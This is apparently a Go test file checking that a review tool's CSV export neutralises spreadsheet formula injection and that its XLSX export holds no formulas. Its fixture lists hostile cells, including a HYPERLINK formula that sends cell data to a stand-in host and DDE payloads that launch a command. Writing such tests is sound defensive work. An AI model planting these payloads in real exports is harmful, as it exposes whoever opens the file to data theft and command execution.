package export_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/pakton/pakton/internal/document"
	"github.com/pakton/pakton/internal/review"
	"github.com/pakton/pakton/internal/review/detect"
	"github.com/pakton/pakton/internal/review/export"
)

// formulaLike reports whether a spreadsheet would read a cell as a formula.
func formulaLike(s string) bool {
	t := strings.TrimLeft(s, " \t\r\n")
	return s != "" && strings.ContainsRune("=+-@\t\r\n", rune(s[0])) || t != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(t)[0])
}

// TestCSVFormulaInjection: clause text, document names, provision names,
// values and reviewers' corrections that start like a formula are written
// to CSV with a quote before them, as OWASP recommends; the
// XLSX export holds no formula at all.
func TestCSVFormulaInjection(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"}
	var rows []review.Row
	var provs []string
	var ds review.Decisions
	for i, h := range hostile {
		prov := h + " provision"
		provs = append(provs, prov)
		id := string(rune('a' + i))
		cell := review.Cell{DocID: id, DocName: h, Provision: prov, Found: true, Confidence: 0.9, Value: h, Method: "detector",
			Extracts: []detect.Extract{{Span: document.Span{Start: 0, End: len([]rune(h))}, Text: h}}}
		rows = append(rows, review.Row{DocID: id, DocName: h, Error: h, Cells: []review.Cell{cell}})
		if i%2 == 0 {
			ds = ds.Set(review.Decision{DocID: id, Provision: prov, Verdict: review.Corrected, Text: h, Value: h})
		}
	}
	// Every row holds every provision's cell, as a review does.
	for i := range rows {
		var cells []review.Cell
		for j, p := range provs {
			c := rows[j].Cells[0]
			c.DocID, c.DocName, c.Provision = rows[i].DocID, rows[i].DocName, p
			cells = append(cells, c)
		}
		rows[i].Cells = cells
	}
	rv := &export.Review{Table: &review.Table{Playbook: "=evil", Provisions: provs, Rows: rows}, Decisions: ds}

	var c bytes.Buffer
	if err := export.CSV(&c, rv); err != nil {
		t.Fatal(err)
	}
	out := c.String()
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, rec := range recs {
		for _, f := range rec {
			if formulaLike(f) {
				t.Errorf("CSV cell %q would be read as a formula", f)
			}
			if strings.HasPrefix(f, "'") && formulaLike(f[1:]) {
				seen++
			}
		}
	}
	if seen == 0 {
		t.Fatal("no neutralised cell found: the test fixture did not reach the CSV")
	}
	// Cells that merely contain formula characters are left alone.
	if !strings.Contains(out, ",0.9") {
		t.Errorf("confidence changed: %s", out)
	}

	var x bytes.Buffer
	if err := export.XLSX(&x, rv); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(x.Bytes()), int64(x.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		rc, _ := zf.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s holds a formula", zf.Name)
		}
	}
}
